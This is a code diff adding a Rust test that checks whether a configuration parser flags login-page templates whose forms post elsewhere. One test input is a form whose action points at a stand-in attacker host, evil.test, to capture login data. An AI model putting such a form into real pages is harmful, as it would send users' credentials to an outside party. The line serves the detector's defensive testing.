@@ -56,6 +56,25 @@ fn each_is_said_under_its_key() {
 }
 
 #[test]
+fn forms_of_own_templates_that_lead_astray_are_named() {
+    let folder = tempfile::tempdir().unwrap();
+    fs::create_dir(folder.path().join("pages")).unwrap();
+    let write = |text: &str| fs::write(folder.path().join("pages/login.html"), text).unwrap();
+    let said = || {
+        let text = format!("{SOUND}[pages]\ndir = \"pages\"\n");
+        let (_, report) = config::parse("config.toml", &text, folder.path()).unwrap();
+        let about = report.findings().iter().filter(|finding| finding.key == "pages.dir");
+        about.map(|finding| finding.what.clone()).collect::<Vec<_>>().join("\n")
+    };
+    write("<form method=\"post\"></form>");
+    assert_eq!(said(), "");
+    write("<form method=\"post\" action=\"{{ login }}\"></form>");
+    assert!(said().starts_with("the form of login.html has an action"), "{}", said());
+    write("<form method=\"post\" action=\"https://evil.test/{{ login }}\"></form>");
+    assert!(said().starts_with("a form of login.html leads to https://evil.test//login"), "{}", said());
+}
+
+#[test]
 fn weak_hashes_are_let_in_with_a_word() {
     let folder = tempfile::tempdir().unwrap();
     let path = folder.path().join("people.htpasswd");
